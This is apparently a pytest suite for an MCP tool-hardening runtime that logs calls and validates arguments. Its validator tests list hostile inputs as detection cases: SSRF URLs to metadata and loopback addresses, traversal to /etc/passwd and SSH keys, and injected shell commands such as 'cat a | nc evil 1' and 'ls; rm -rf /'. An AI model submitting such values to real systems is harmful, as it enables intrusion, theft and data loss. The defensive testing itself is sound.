"""The vendored runtime's tool-handler decorators: observe, validate and rate_limit.

They wrap handlers of a running MCP server, so beyond their own logic they must leave the tool
exactly as the framework saw it: same signature and schema, same result, same exceptions, and
the Context still injected. The last tests check that on a real mcp 1.x server in memory.
This module uses `from __future__ import annotations` on purpose: its module-level tools have
string annotations, as many servers' do.
"""

from __future__ import annotations

import asyncio
import functools
import importlib.util
import inspect
import json
import sys
import threading
import typing
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Annotated, Any

import anyio
import anyio.to_thread
import mcp.types as mcp_types
import pytest
from client_calls import client_request, from_framework, from_framework_async, no_request
from mcp.server.fastmcp import Context, FastMCP
from mcp.server.fastmcp.exceptions import ToolError
from mcp.server.lowlevel import Server
from mcp.shared.memory import create_connected_server_and_client_session
from pydantic import BaseModel, Field

from harden import runtime

SECRET = "s3cr3t-value"


@pytest.fixture
def served() -> Iterator[None]:
    """Every call in the test is a client's, as mcp 1.x serves it over stdio (unless a test
    says otherwise): the runtime acts only on those."""
    with client_request():
        yield


@pytest.fixture
def mcp2_style(monkeypatch: pytest.MonkeyPatch) -> None:
    """The runtime in a process whose framework publishes no request context (mcp 2.x)."""
    monkeypatch.setattr(runtime, "_REQUEST_CONTEXT_VARS", ())


pytestmark = pytest.mark.usefixtures("fresh_runtime", "served")


class Clock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    fake = Clock()
    runtime.configure(clock=fake)
    return fake


def log_lines(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    captured = capsys.readouterr()
    assert captured.out == "", "the runtime must never write to stdout (the stdio transport)"
    return [json.loads(line) for line in captured.err.splitlines() if line.startswith("{")]


def events(lines: list[dict[str, Any]], event: str) -> list[dict[str, Any]]:
    return [line for line in lines if line["event"] == event]


class FakeContext:
    """Shaped like the Context of mcp and fastmcp: found by its `request_context` attribute."""

    def __init__(self, request: object | None) -> None:
        self._request_context = SimpleNamespace(request=request, session=object())

    @property
    def request_context(self) -> object:
        return self._request_context


def http_request(
    session: str | None = None, query_session: str | None = None, host: str | None = None
) -> SimpleNamespace:
    return SimpleNamespace(
        headers={"mcp-session-id": session} if session else {},
        query_params={"session_id": query_session} if query_session else {},
        client=SimpleNamespace(host=host) if host else None,
    )


# -- tools defined at module level, with string annotations ------------------------------------


def read_file(
    path: Annotated[str, Field(description="File to read, relative to the workspace")],
    ctx: Context,
    limit: int = 10,
) -> str:
    """Read a file."""
    return f"{path}:{limit}:{type(ctx).__name__}"


class Stats(BaseModel):
    lines: int
    words: int


async def count_words(text: str, ctx: Context) -> Stats:
    """Count lines and words."""
    await ctx.info("counting")
    return Stats(lines=text.count("\n") + 1, words=len(text.split()))


def hardened(fn: Callable[..., Any]) -> Callable[..., Any]:
    return runtime.observe(runtime.rate_limit(runtime.validate(fn)))


HARDENED_READ_FILE = hardened(read_file)
HARDENED_COUNT_WORDS = hardened(count_words)


# Decorated before `Later` exists, as with a forward reference in a real module.
@runtime.observe
def uses_later(item: Later) -> str:
    return str(item)


class Later:
    pass


# -- the wrapper keeps what the framework reads -------------------------------------------------


def test_wrappers_keep_name_doc_module_and_wrapped_function() -> None:
    for original, wrapper in [(read_file, HARDENED_READ_FILE), (count_words, HARDENED_COUNT_WORDS)]:
        assert wrapper.__name__ == original.__name__
        assert wrapper.__qualname__ == original.__qualname__
        assert wrapper.__doc__ == original.__doc__
        assert wrapper.__module__ == original.__module__
        assert wrapper.__wrapped__ is original


def test_coroutine_functions_stay_coroutine_functions_and_sync_stays_sync() -> None:
    assert inspect.iscoroutinefunction(HARDENED_COUNT_WORDS)
    assert not inspect.iscoroutinefunction(HARDENED_READ_FILE)


def test_signature_has_the_string_annotations_resolved_with_annotated_and_defaults() -> None:
    assert inspect.signature(read_file).parameters["path"].annotation.startswith("Annotated[")
    parameters = inspect.signature(HARDENED_READ_FILE).parameters
    path = parameters["path"].annotation
    assert typing.get_origin(path) is Annotated
    assert typing.get_args(path)[0] is str
    assert typing.get_args(path)[1].description == "File to read, relative to the workspace"
    assert parameters["ctx"].annotation is Context
    assert parameters["limit"].annotation is int
    assert parameters["limit"].default == 10
    assert inspect.signature(HARDENED_READ_FILE).return_annotation is str
    assert str(HARDENED_READ_FILE.__signature__) == str(inspect.signature(read_file, eval_str=True))


def test_an_unresolvable_annotation_falls_back_to_the_plain_signature() -> None:
    assert inspect.signature(uses_later).parameters["item"].annotation == "Later"
    assert typing.get_type_hints(uses_later)["item"] is Later
    assert uses_later(Later()).startswith("<")


def test_stacked_decorators_become_one_wrapper_in_any_order() -> None:
    def tool(path: str) -> str:
        return path

    stacked = runtime.validate(runtime.observe(runtime.rate_limit(tool)))
    assert stacked.__wrapped__ is tool
    handler = runtime._handlers[stacked]
    assert (handler.observe, handler.rate_limit, handler.validate) == (True, True, True)


def test_a_users_decorator_in_between_is_kept() -> None:
    calls: list[str] = []

    def audited(fn: Callable[..., str]) -> Callable[..., str]:
        def wrapper(*args: Any, **kwargs: Any) -> str:
            calls.append("audited")
            return fn(*args, **kwargs)

        return wrapper

    def tool(path: str) -> str:
        return path

    stacked = runtime.observe(audited(runtime.validate(tool)))
    assert stacked("a") == "a"
    assert calls == ["audited"]


# -- observe --------------------------------------------------------------------------------------


def test_a_method_tool_logs_and_checks_its_arguments_not_self(
    capsys: pytest.CaptureFixture[str],
) -> None:
    class Shop:
        @runtime.observe
        @runtime.validate
        def stock(self, path: str) -> int:
            return len(path)

    assert Shop().stock("../etc/passwd") == len("../etc/passwd")
    lines = [json.loads(text) for text in capsys.readouterr().err.splitlines()]
    assert [line["param"] for line in events(lines, "VALIDATION_WOULD_REJECT")] == ["path"]
    assert events(lines, "tool_call")[0]["params"] == {"path": "str"}


def test_observe_logs_one_line_with_types_never_values(capsys: pytest.CaptureFixture[str]) -> None:
    @runtime.observe
    def search(query: str, limit: int, tags: list[str]) -> str:
        return "found " + query

    assert search(SECRET, limit=3, tags=["a"]) == "found " + SECRET
    captured = capsys.readouterr()
    assert SECRET not in captured.err
    [line] = [json.loads(text) for text in captured.err.splitlines()]
    assert list(line) == [
        "v",
        "ts",
        "event",
        "tool",
        "caller",
        "duration_ms",
        "params",
        "isError",
        "response_size",
        "error",
        "uses",  # phase 6: what the call did (files, programs, hosts), here nothing
    ]
    assert line["uses"] == []
    assert line["event"] == "tool_call"
    assert line["tool"] == "search"
    assert line["caller"] == "local"
    assert line["params"] == {"query": "str", "limit": "int", "tags": "list"}
    assert line["isError"] is False
    assert line["error"] is None
    assert line["response_size"] == len("found " + SECRET)
    assert line["duration_ms"] >= 0
    assert line["ts"].endswith("Z") and line["ts"][10] == "T" and len(line["ts"]) == 24


def test_observe_async_and_registered_name(capsys: pytest.CaptureFixture[str]) -> None:
    @runtime.observe(tool="files.read")
    async def read(path: str) -> bytes:
        await asyncio.sleep(0)
        return b"12345"

    assert asyncio.run(read(path="a")) == b"12345"
    [line] = log_lines(capsys)
    assert (line["tool"], line["response_size"], line["isError"]) == ("files.read", 5, False)


def test_a_plain_function_handing_back_a_coroutine_is_followed_until_it_ends(
    capsys: pytest.CaptureFixture[str],
) -> None:
    async def lookup(path: str) -> str:
        await asyncio.sleep(0.05)
        if path == "missing":
            raise FileNotFoundError(f"no such file: {SECRET}")
        return "12345"

    @runtime.observe
    @runtime.mask_errors
    def read(path: str) -> Any:
        return lookup(path)  # awaited by the framework (fastmcp does)

    assert not inspect.iscoroutinefunction(read)
    assert asyncio.run(read(path="a")) == "12345"
    with pytest.raises(ToolError) as raised:
        asyncio.run(read(path="missing"))
    assert SECRET not in str(raised.value) and "internal error (ref " in str(raised.value)
    answered, failed = events(log_lines(capsys), "tool_call")
    assert answered["duration_ms"] >= 50 and answered["response_size"] == 5
    assert (failed["isError"], failed["error"], failed["response_size"]) == (
        True,
        "FileNotFoundError",
        0,
    )


def test_observe_lets_the_same_exception_through_and_logs_an_error(
    capsys: pytest.CaptureFixture[str],
) -> None:
    failure = FileNotFoundError(f"no such file: {SECRET}")

    @runtime.observe
    def read(path: str) -> str:
        raise failure

    with pytest.raises(FileNotFoundError) as raised:
        read(SECRET)
    assert raised.value is failure
    captured = capsys.readouterr()
    assert SECRET not in captured.err
    line = json.loads(captured.err)
    assert (line["isError"], line["error"], line["response_size"]) == (
        True,
        "FileNotFoundError",
        0,
    )


def test_observe_reports_an_error_result_returned_unchanged(
    capsys: pytest.CaptureFixture[str],
) -> None:
    result = mcp_types.CallToolResult(
        content=[mcp_types.TextContent(type="text", text="bad input")], isError=True
    )

    @runtime.observe
    async def tool(x: int) -> mcp_types.CallToolResult:
        return result

    assert asyncio.run(tool(1)) is result
    [line] = log_lines(capsys)
    assert line["isError"] is True and line["error"] is None
    assert line["response_size"] >= len("bad input")


def test_response_size_of_a_huge_result_is_estimated_from_a_sample(
    capsys: pytest.CaptureFixture[str],
) -> None:
    big = ["ab"] * 1_000_000

    @runtime.observe
    def listing() -> list[str]:
        return big

    assert listing() is big
    [line] = log_lines(capsys)
    assert line["response_size"] == 2_000_000


def test_observe_applied_twice_logs_once(capsys: pytest.CaptureFixture[str]) -> None:
    def ping() -> str:
        return "pong"

    twice = runtime.observe(runtime.observe(ping))
    twice()
    assert len(log_lines(capsys)) == 1


@pytest.mark.parametrize(
    ("request_", "caller"),
    [
        (http_request(session="abc123"), "session:abc123"),
        (http_request(query_session="f00d"), "session:f00d"),
        (http_request(host="10.1.2.3"), "addr:10.1.2.3"),
        (None, "local"),
    ],
)
def test_the_caller_comes_from_the_published_request(
    capsys: pytest.CaptureFixture[str], request_: object, caller: str
) -> None:
    @runtime.observe
    def whoami(name: str) -> str:
        return name

    with client_request(request_):
        whoami(name="x")
    [line] = log_lines(capsys)
    assert (line["caller"], line["params"]) == (caller, {"name": "str"})


@pytest.mark.parametrize(
    ("request_", "caller"),
    [
        (http_request(session="abc123"), "session:abc123"),
        (http_request(host="10.1.2.3"), "addr:10.1.2.3"),
        (None, "local"),
    ],
)
@pytest.mark.usefixtures("mcp2_style")
def test_without_a_published_request_the_caller_comes_from_the_context_argument(
    capsys: pytest.CaptureFixture[str], request_: object, caller: str
) -> None:
    @runtime.observe
    def whoami(ctx: FakeContext, name: str) -> str:
        return name

    from_framework(whoami, FakeContext(request_), name="x")
    [line] = log_lines(capsys)
    assert line["caller"] == caller
    assert line["params"] == {"name": "str"}, "the injected Context is not a parameter"


# -- only a client's call counts ----------------------------------------------------------------


def every_control(fn: Callable[..., Any]) -> Callable[..., Any]:
    return runtime.observe(runtime.rate_limit(runtime.validate(runtime.mask_errors(fn))))


@pytest.fixture
def enforced(fresh_runtime: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ENFORCE_VALIDATION", "true")
    monkeypatch.setenv("ENFORCE_RATE_LIMITS", "true")
    monkeypatch.setenv("RATE_LIMIT_RPM", "1")


@pytest.mark.usefixtures("enforced")
def test_a_direct_call_runs_as_if_undecorated(capsys: pytest.CaptureFixture[str]) -> None:
    failure = RuntimeError(f"no such table at {SECRET}")

    @every_control
    def read(path: str) -> str:
        if path == "fail":
            raise failure
        return f"read {path}"

    with no_request():
        assert [read("../../etc/passwd") for _ in range(3)] == ["read ../../etc/passwd"] * 3
        with pytest.raises(RuntimeError) as raised:
            read("fail")
    assert raised.value is failure, "not masked, not wrapped"
    assert log_lines(capsys) == []
    with client_request(), pytest.raises(runtime.Rejected):
        read("../../etc/passwd")  # the same call from a client is refused


@pytest.mark.usefixtures("enforced")
def test_a_tool_called_by_another_tool_is_not_a_second_client_call(
    capsys: pytest.CaptureFixture[str],
) -> None:
    class Notes:
        def __init__(self) -> None:
            self.notes = ["a", "b"]

        @every_control
        def list_notes(self) -> list[str]:
            return list(self.notes)

        @every_control
        async def note_count(self) -> int:
            await asyncio.sleep(0)
            return len(self.list_notes())

    notes = Notes()
    assert notes.list_notes() == ["a", "b"]
    assert asyncio.run(notes.note_count()) == 2, "the inner call is not counted against it"
    assert [line["tool"] for line in events(log_lines(capsys), "tool_call")] == [
        "list_notes",
        "note_count",
    ]


@pytest.mark.usefixtures("enforced")
def test_a_call_within_a_call_is_seen_across_vendored_copies(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # A project gets a copy beside each folder of hardened modules: tools/ and server/ here.
    copies = []
    for folder in ("tools", "server"):
        (tmp_path / folder).mkdir()
        path = tmp_path / folder / "harden_runtime.py"
        path.write_text(Path(runtime.__file__).read_text())
        spec = importlib.util.spec_from_file_location(f"{folder}.harden_runtime", path)
        assert spec is not None and spec.loader is not None
        copy = importlib.util.module_from_spec(spec)
        monkeypatch.setitem(sys.modules, spec.name, copy)
        spec.loader.exec_module(copy)
        copies.append(copy)
    tools_runtime, server_runtime = copies

    @tools_runtime.observe
    @tools_runtime.rate_limit
    def lookup(key: str) -> str:
        return key.upper()

    @server_runtime.observe
    @server_runtime.rate_limit
    def lookup_twice(key: str) -> str:
        return lookup(key) + lookup(key)

    assert lookup_twice("k") == "KK"
    assert [line["tool"] for line in events(log_lines(capsys), "tool_call")] == ["lookup_twice"]


@pytest.mark.usefixtures("mcp2_style")
def test_without_a_published_request_only_the_frameworks_calls_count(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ENFORCE_VALIDATION", "true")

    @every_control
    def stat(path: str) -> str:
        return path

    @every_control
    async def fetch(url: str) -> str:
        await asyncio.sleep(0)
        return url

    # A test calling the functions itself, a coroutine run by asyncio.run included.
    assert stat("../x") == "../x"
    assert asyncio.run(fetch("http://127.0.0.1/")) == "http://127.0.0.1/"
    assert log_lines(capsys) == []
    # The framework: an async tool awaited from its code, a sync one run in its worker thread.
    with pytest.raises(runtime.Rejected):
        asyncio.run(from_framework_async(fetch, "http://127.0.0.1/"))
    assert anyio.run(anyio.to_thread.run_sync, functools.partial(from_framework, stat, "a")) == "a"
    assert anyio.run(anyio.to_thread.run_sync, functools.partial(stat, "b")) == "b"
    logged = log_lines(capsys)
    assert [(line["tool"], line["isError"]) for line in events(logged, "tool_call")] == [
        ("fetch", True),
        ("stat", False),
        ("stat", False),
    ]


# -- validate -------------------------------------------------------------------------------------


def check(param: str, value: object, capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    """The VALIDATION_WOULD_REJECT lines for one call with `param=value`; the call goes on."""

    def tool(**kwargs: object) -> str:
        return "ran"

    assert runtime.validate(tool=tool.__name__)(tool)(**{param: value}) == "ran"
    captured = capsys.readouterr()
    if isinstance(value, str) and len(value) > 3:
        assert value not in captured.err
    return [json.loads(line) for line in captured.err.splitlines()]


def rules(param: str, value: object, capsys: pytest.CaptureFixture[str]) -> list[str]:
    lines = check(param, value, capsys)
    assert all(line["event"] == "VALIDATION_WOULD_REJECT" for line in lines)
    assert all(line["param"] == param for line in lines)
    return [line["rule"] for line in lines]


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/admin",
        "http://localhost:8080/",
        "http://LOCALHOST./",
        "http://api.localhost/",
        "http://printer.local/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://0.0.0.0:8000/",
        "http://10.0.0.5/",
        "http://172.16.3.4/",
        "http://192.168.1.1/",
        "http://100.64.0.1/",
        "http://2130706433/",
        "http://0177.0.0.1/",
        "http://0x7f000001/",
        "http://0x7f.0.0.1/",
        "http://127.1/",
        "http://0/",
        "http://%31%32%37.0.0.1/",
        "http://[::1]/",
        "http://[::]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
        "http://[::ffff:169.254.169.254]/",
        "http://[fd00::1]/",
        "http://[fd00:ec2::254]/",
        "http://[fe80::1%25eth0]/",
        "http://[fec0::1]/",
        "http://[2002:7f00:1::]/",
        "https://user:pass@127.0.0.1:443/x",
        "http://evil.example\\@127.0.0.1/",
        "ws://127.0.0.1:9000/socket",
        "http://[::1",
    ],
)
def test_ssrf_to_internal_hosts_in_any_spelling(
    url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules("url", url, capsys) == ["ssrf"]


@pytest.mark.parametrize(
    ("param", "value"),
    [
        ("host", "127.0.0.1"),
        ("hostname", "::1"),
        ("host", "[::1]:8080"),
        ("endpoint", "localhost:6379"),
        ("server_address", "10.0.0.1:5432"),
        ("webhookUrl", "169.254.169.254/latest"),
        ("callback", "http://192.168.0.10/hook"),
        ("proxy", "0x7f000001"),
        ("note", "http://169.254.169.254/latest/meta-data/"),  # a whole URL in any parameter
    ],
)
def test_ssrf_in_host_like_parameters_and_url_values(
    param: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules(param, value, capsys) == ["ssrf"]


@pytest.mark.parametrize(
    ("param", "value"),
    [
        ("url", "https://example.com/a/b?c=d"),
        ("url", "http://8.8.8.8/"),
        ("url", "https://[2606:4700:4700::1111]/"),
        ("url", "http://[2002:808:808::]/"),
        ("host", "api.example.com:443"),
        ("endpoint", "/v1/items"),
        ("text", "see http://localhost:3000 in the docs"),  # prose, not a URL value
        ("url", "mailto:someone@example.com"),
    ],
)
def test_public_hosts_and_prose_pass(
    param: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules(param, value, capsys) == []


def test_allowed_hosts_by_name_address_and_network(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HARDEN_ALLOWED_HOSTS", "localhost, 10.0.0.0/8,[::1]")
    assert rules("url", "http://localhost:8080/", capsys) == []
    assert rules("url", "http://10.20.30.40/", capsys) == []
    assert rules("url", "http://[::1]/", capsys) == []
    assert rules("url", "http://127.0.0.1/", capsys) == ["ssrf"]
    runtime.configure(allowed_hosts=["127.0.0.1"])
    assert rules("url", "http://2130706433/", capsys) == [], "the same address, spelled another way"


def test_unsafe_url_schemes_and_file_urls(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    runtime.configure(allowed_roots=[str(tmp_path)])
    assert rules("url", "gopher://example.com:70/_x", capsys) == ["url_scheme"]
    assert rules("uri", "dict://example.com:11211/stat", capsys) == ["url_scheme"]
    assert rules("url", "file:///etc/passwd", capsys) == ["path_outside_roots"]
    assert rules("uri", f"file://{tmp_path}/notes/a%20b.txt", capsys) == []
    assert rules("uri", f"file://{tmp_path}/%2e%2e/x", capsys) == ["path_traversal"]


@pytest.mark.parametrize(
    "path",
    ["../etc/passwd", "docs/../../etc/passwd", "..", "docs/..", "..\\windows\\win.ini", "a/../b"],
)
def test_path_traversal(path: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert rules("path", path, capsys) == ["path_traversal"]


@pytest.mark.parametrize(
    ("param", "value"),
    [
        ("file_path", "/etc/passwd"),
        ("directory", "/"),
        ("filename", "~/.ssh/id_rsa"),
        ("targetDir", "//etc"),
        ("dest", "/tmp"),
    ],
)
def test_absolute_paths_outside_the_allowed_roots(
    param: str, value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    runtime.configure(allowed_roots=[str(tmp_path / "workspace")])
    assert rules(param, value, capsys) == ["path_outside_roots"]


def test_paths_inside_the_roots_and_relative_paths_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace, other = tmp_path / "workspace", tmp_path / "other"
    monkeypatch.setenv("HARDEN_ALLOWED_ROOTS", f"{workspace}{runtime.os.pathsep}{other}")
    assert rules("path", str(workspace), capsys) == []
    assert rules("path", f"{workspace}/src/main.py", capsys) == []
    assert rules("path", f"{other}/x", capsys) == []
    assert rules("path", f"{workspace}-evil/x", capsys) == ["path_outside_roots"]
    assert rules("path", "src/main.py", capsys) == []
    assert rules("path", "release..notes.md", capsys) == []


def test_a_tools_own_roots_are_allowed_for_that_tool_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "data"
    runtime.configure(allowed_roots=[str(tmp_path / "workspace")])

    def read_note(path: str) -> str:
        return "ran"

    def other(path: str) -> str:
        return "ran"

    with_roots = runtime.validate(roots=[data, "/srv/exports"])(read_note)
    plain = runtime.validate(other)
    for value in (str(data / "x.md"), f"{data}/sub/../y.md", "/srv/exports/a.csv"):
        with_roots(path=value)
    lines = [json.loads(line) for line in capsys.readouterr().err.splitlines()]
    assert [line["rule"] for line in lines] == ["path_traversal"]
    with_roots(path="/etc/passwd")
    with_roots(path=f"{data}-evil/x")
    plain(path=str(data / "x.md"))
    lines = [json.loads(line) for line in capsys.readouterr().err.splitlines()]
    assert [(line["tool"], line["rule"]) for line in lines] == [
        ("read_note", "path_outside_roots"),
        ("read_note", "path_outside_roots"),
        ("other", "path_outside_roots"),
    ]


def test_the_default_root_is_the_working_directory_at_first_use(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert rules("path", str(tmp_path / "data.csv"), capsys) == []
    monkeypatch.chdir("/")
    assert rules("path", "/etc/passwd", capsys) == ["path_outside_roots"]


@pytest.mark.parametrize(
    ("param", "value"), [("path", "a\x00.txt"), ("text", "hello\x00"), ("url", "http://a\x00b/")]
)
def test_nul_bytes(param: str, value: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert rules(param, value, capsys) == ["nul_byte"]


@pytest.mark.parametrize(
    ("name", "value", "expected"),
    [
        # A host holds no shell syntax, whatever splices it where (a URL's query may).
        ("host", "x; touch PWNED", ["shell_metachar"]),
        ("hostname", "a$(id)", ["shell_metachar"]),
        ("server", "example.com|nc evil 1", ["shell_metachar"]),
        ("url", "https://example.com/?a=1&b=$2", []),
        ("host", "example.com", []),
        # A path holds none that starts another command; `&` and `$` occur in file names.
        ("path", "notes;rm -rf ~", ["shell_metachar"]),
        ("filename", "a`id`.txt", ["shell_metachar"]),
        ("filename", "Tom & Jerry $5.mp3", []),
        # Shaped like an address or a path, whatever the parameter is called.
        ("target", "127.0.0.1", ["ssrf"]),
        ("q", "[::1]", ["ssrf"]),
        ("version", "1.2.3.4", []),  # a public address: nothing to refuse
        ("location", "/etc/passwd", ["path_outside_roots"]),
        ("resource", "~/.ssh/id_rsa", ["path_outside_roots"]),
        ("route", "/api/v1/users", []),  # no folder /api here: not a path
        ("text", "/help", []),
    ],
)
def test_values_are_classified_by_shape_too(
    name: str, value: str, expected: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules(name, value, capsys) == expected


def test_parameters_named_in_the_settings_are_validated_as_said(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """[tool.harden.validate] path_params / url_params / command_params, "param" or
    "tool:param": for names that say nothing (the tool here is called `tool`)."""
    assert rules("target", "notes;rm -rf ~", capsys) == []
    assert rules("ref", "db.internal", capsys) == []
    runtime.configure(path_params=["tool:target"], url_params=["ref"], command_params=["q"])
    assert rules("target", "notes;rm -rf ~", capsys) == ["shell_metachar"]
    assert rules("ref", "db.internal", capsys) == ["ssrf"]
    assert rules("q", "ls | nc evil 1", capsys) == ["shell_metachar"]
    runtime.configure(path_params=["other_tool:target"])  # replaces the list
    assert rules("target", "notes;rm -rf ~", capsys) == []


def test_traversal_shaped_values_in_other_parameters(capsys: pytest.CaptureFixture[str]) -> None:
    assert rules("name", "../../etc/passwd", capsys) == ["path_traversal"]
    assert rules("text", "see ../notes for details", capsys) == []
    assert rules("pattern", "/usr/.*", capsys) == []
    assert rules("range", "main..feature", capsys) == []


@pytest.mark.parametrize(
    ("param", "value"),
    [
        ("cmd", "ls; rm -rf /"),
        ("command", "echo $(id)"),
        ("command", "cat a | nc evil 1"),
        ("shell_command", "sleep 1 && reboot"),
        ("cmd", "echo `id`"),
        ("cmd", "ls > /dev/null"),
        ("cmd", "ls\nid"),
        ("args", ["-l", "x; id"]),
        ("argv", ("ls", "$HOME")),
    ],
)
def test_shell_metacharacters_in_command_like_parameters(
    param: str, value: object, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules(param, value, capsys) == ["shell_metachar"]


def test_metacharacters_elsewhere_and_plain_commands_pass(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert rules("cmd", "git log --oneline -n 5", capsys) == []
    assert rules("query", "SELECT * FROM t WHERE a = 1; -- x", capsys) == []
    assert rules("message", "tom & jerry | 2 > 1", capsys) == []


def test_length_limit_default_and_from_the_environment(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules("text", "a" * 10_000, capsys) == []
    assert rules("text", "a" * 10_001, capsys) == ["max_length"]
    monkeypatch.setenv("HARDEN_MAX_STRING_LENGTH", "5")
    assert rules("text", "abcdef", capsys) == ["max_length"]
    assert rules("items", ["ok", "abcdef"], capsys) == ["max_length"]


def test_what_the_sdk_hands_the_tool_is_checked_a_few_levels_deep(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from dataclasses import dataclass
    from pathlib import PurePosixPath

    class Target(BaseModel):
        location: str
        folder: PurePosixPath

    @dataclass
    class Job:
        url: str

    assert rules("paths", ["README.md", "../secret"], capsys) == ["path_traversal"]
    assert rules("options", {"url": "localhost:8080", "retries": 3}, capsys) == ["ssrf"]
    assert rules("options", {"headers": {"url": "http://127.0.0.1"}}, capsys) == ["ssrf"]
    # FastMCP hands `path: Path` over as a Path, a model parameter as the model
    assert rules("anything", PurePosixPath("../../etc/passwd"), capsys) == ["path_traversal"]
    assert rules("target", Target(location="x", folder="../up"), capsys) == ["path_traversal"]
    assert rules("job", Job(url="http://169.254.169.254/"), capsys) == ["ssrf"]
    assert rules("job", [Job(url="https://example.com/")], capsys) == []
    deep: object = "../secret"
    for _ in range(6):
        deep = [deep]
    assert rules("paths", deep, capsys) == [], "bounded: no walk through endless nesting"


@pytest.mark.parametrize(
    "url",
    [
        "http://\u2460\u2461\u2466.0.0.1/",  # circled digits
        "http://\uff11\uff12\uff17.0.0.1/",  # full-width digits
        "http://127\u30020\u30020\u30021/",  # ideographic full stops
        "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/",  # circled letters
    ],
)
def test_unicode_hosts_are_read_as_the_resolver_reads_them(
    url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rules("url", url, capsys) == ["ssrf"]
    assert rules("url", "http://b\u00fccher.example/", capsys) == []


def test_a_link_inside_a_root_that_leads_outside_is_outside(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "escape").symlink_to("/etc")
    runtime.configure(allowed_roots=[str(workspace)])
    assert rules("path", str(workspace / "escape" / "passwd"), capsys) == ["path_outside_roots"]
    assert rules("path", str(workspace / "new" / "file.txt"), capsys) == []


def test_one_line_per_violating_parameter_with_tool_and_caller(
    capsys: pytest.CaptureFixture[str],
) -> None:
    @runtime.validate
    def fetch(url: str, path: str, note: str) -> str:
        return "ran"

    assert fetch("http://127.0.0.1/" + SECRET, path="../" + SECRET, note="fine") == "ran"
    captured = capsys.readouterr()
    assert SECRET not in captured.err
    lines = [json.loads(line) for line in captured.err.splitlines()]
    assert [(line["param"], line["rule"]) for line in lines] == [
        ("url", "ssrf"),
        ("path", "path_traversal"),
    ]
    assert list(lines[0]) == ["v", "ts", "event", "tool", "caller", "rule", "param"]
    assert {(line["tool"], line["caller"]) for line in lines} == {("fetch", "local")}


def test_skip_params_for_every_tool_or_one(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HARDEN_VALIDATION_SKIP_PARAMS", "cmd, tool:path")
    assert rules("cmd", "a;b", capsys) == []
    assert rules("path", "../x", capsys) == []
    runtime.configure(skip_params=["other:url"])
    assert rules("url", "http://127.0.0.1", capsys) == ["ssrf"]


def test_enforced_validation_refuses_without_echoing_the_value(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    ran: list[str] = []

    @runtime.validate
    def read(path: str) -> str:
        ran.append(path)
        return "content"

    monkeypatch.setenv("ENFORCE_VALIDATION", "true")
    with pytest.raises(runtime.Rejected) as raised:
        read("../" + SECRET)
    assert isinstance(raised.value, ToolError), "the loaded framework's ToolError"
    assert isinstance(raised.value, ValueError)
    assert SECRET not in str(raised.value) and "'path'" in str(raised.value)
    assert ran == []
    [line] = log_lines(capsys)
    assert (line["event"], line["rule"], line["param"]) == (
        "VALIDATION_REJECTED",
        "path_traversal",
        "path",
    )
    assert read("notes.txt") == "content"


def test_without_a_framework_the_rejection_is_a_plain_rejected(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for module in runtime._TOOL_ERROR_MODULES:
        monkeypatch.delitem(sys.modules, module, raising=False)
    monkeypatch.setenv("ENFORCE_VALIDATION", "1")

    @runtime.validate
    def run(cmd: str) -> str:
        return cmd

    with pytest.raises(runtime.Rejected) as raised:
        run("ls; id")
    assert type(raised.value) is runtime.Rejected


def test_switches_apply_at_once_and_the_environment_wins_over_configure(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    @runtime.validate
    def run(cmd: str) -> str:
        return cmd

    assert run("a;b") == "a;b"
    monkeypatch.setenv("ENFORCE_VALIDATION", "true")  # a new variable: seen at once
    with pytest.raises(runtime.Rejected):
        run("a;b")
    monkeypatch.setenv("ENFORCE_VALIDATION", "false")  # a changed value: after configure()
    runtime.configure()
    assert run("a;b") == "a;b"
    runtime.configure(enforce_validation=True)
    assert run("a;b") == "a;b", "the environment says false"
    monkeypatch.delenv("ENFORCE_VALIDATION")
    with pytest.raises(runtime.Rejected):
        run("a;b")
    monkeypatch.setenv("ENFORCE_VALIDATION", "")  # empty counts as unset
